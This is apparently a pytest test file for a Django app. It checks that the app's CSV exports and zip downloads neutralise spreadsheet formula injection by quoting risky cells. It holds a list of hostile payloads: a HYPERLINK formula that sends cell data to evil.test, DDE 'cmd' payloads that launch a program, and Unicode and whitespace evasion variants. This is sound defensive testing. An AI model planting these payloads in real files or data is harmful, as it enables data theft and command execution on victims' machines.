"""CSV formula injection: every CSV the app hands out, fetched over HTTP with names and cells that
a spreadsheet would run as formulas. Each comes back as text (a leading ``'``); numbers stay
numbers."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse

from huddle.accounts.models import Role
from huddle.context import pack_services
from huddle.context.services import Upload
from tests.context.helpers import make_asset
from tests.factories import MembershipFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.test/?"&A1,"Click me")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\uff20SUM(1)",
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _runnable(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula (or for a trimmed one)."""
    signs = "=+-@\uff1d\uff0b\uff0d\uff20"
    return cell[:1] in signs + "\t\r" or cell.lstrip()[:1] in signs


def test_the_insights_members_csv_writes_hostile_names_as_text(org, admin, login):
    for n, name in enumerate(FORMULAS):
        user = UserFactory(email=f"formula{n}@acme.test", name=name)
        MembershipFactory(organization=org, user=user, role=Role.MEMBER)
    response = login(admin).get("/o/acme/insights/members/?format=csv")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    names = {row["name"] for row in rows}
    assert {"'" + name for name in FORMULAS} <= names
    assert [row["name"] for row in rows if _runnable(row["name"])] == []
    # Figures are written as numbers, not as text.
    assert {row["runs"] for row in rows} == {"0"}


CAMPAIGN = (
    "date,channel,campaign,impressions,clicks,spend,leads,conversions\n"
    + "".join(
        f'2026-07-0{n + 1},Email,"{name.replace(chr(34), chr(34) * 2)}",1000,50,100.00,5,2\n'
        for n, name in enumerate(FORMULAS[:6])
    )
    + "2026-07-08,-Search,-5+5,2000,40,-12.50,-3,0\n"
)


@pytest.fixture
def campaign(editor):
    return make_asset(
        editor,
        kind="campaign_data",
        slug="q3_results",
        upload=Upload("q3.csv", CAMPAIGN.encode()),
    )


def _check_table(rows: list[list[str]]) -> None:
    campaigns = [row[2] for row in rows[1:]]
    # Upload trims cells: the tab and carriage return are gone, the formula is not.
    assert campaigns[:6] == ["'" + name.strip() for name in FORMULAS[:6]]
    last = rows[-1]
    assert last[1:3] == ["'-Search", "'-5+5"]
    assert last[5:7] == ["-12.5", "-3"]  # negative numbers are data
    assert [cell for row in rows for cell in row if _runnable(cell) and cell[:1] != "-"] == []


def test_the_campaign_table_csv_writes_hostile_cells_as_text(login, editor, campaign):
    response = login(editor).get(reverse("context_table_csv", args=["acme", campaign.public_id]))
    assert response.status_code == 200
    _check_table(_cells(response.content.decode()))


def test_a_context_packs_tables_write_hostile_cells_as_text(login, editor, campaign):
    pack = pack_services.pack_create(
        actor=editor.actor, organization=editor.org, name="Campaigns", assets=[campaign]
    )
    response = login(editor).get(
        reverse("context_pack_download", args=["acme", pack.public_id, "zip"])
    )
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    _check_table(_cells(archive.read("knowledge/q3_results.csv").decode()))
